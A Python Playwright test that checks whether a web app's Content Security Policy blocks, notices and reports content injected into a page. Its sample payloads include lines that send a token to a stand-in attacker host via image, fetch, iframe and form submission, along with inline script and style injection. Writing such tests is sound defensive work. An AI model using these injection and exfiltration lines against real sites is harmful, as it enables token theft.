"""What a page must not do is kept from it, noticed by every one of these tests, and reported."""

from __future__ import annotations

from playwright.sync_api import Page

from tests.browser.waiting import until_on

# What somebody might smuggle into a page, and which of the policy's directives stops it.
SMUGGLED = {
    "img-src": "put('img', { src: 'https://evil.example/a?token=1' })",
    "script-src-elem": "put('script', { text: 'x = 1' })",
    "style-src-elem": "put('style', { textContent: 'body { color: red }' })",
    "style-src-attr": "document.body.setAttribute('style', 'color: red')",
    "script-src-attr": "document.body.setAttribute('onclick', 'x = 1')",
    "script-src": "try { setTimeout('x = 1') } catch {}",
    "connect-src": "fetch('https://evil.example/?token=1').catch(() => {})",
    "frame-src": "put('iframe', { src: 'https://evil.example/' })",
    "form-action": (
        "put('form', { action: 'https://evil.example/', method: 'post' }); "
        "document.forms[document.forms.length - 1].submit()"
    ),
}
PUT = "const put = (tag, given) => "
PUT += "document.body.append(Object.assign(document.createElement(tag), given));"


def test_what_is_smuggled_into_a_page_is_blocked_noticed_and_reported(
    app: str, page: Page, blocked: list[str]
):
    for directive, smuggled in SMUGGLED.items():
        page.goto(app)
        page.evaluate(f"() => {{ {PUT} {smuggled} }}")
        # Noticed by the page, and reported by the browser.
        until_on(page, lambda: len(blocked) >= 2)
        assert len(blocked) == 2, directive
        noticed, reported = sorted(blocked, key=lambda words: words.startswith("reported"))
        assert noticed.startswith(f"{directive} blocked ")
        assert reported.startswith(f"reported csp: {directive} blocked ")
        assert "token" not in reported
        assert page.evaluate("() => typeof x") == "undefined"
        blocked.clear()
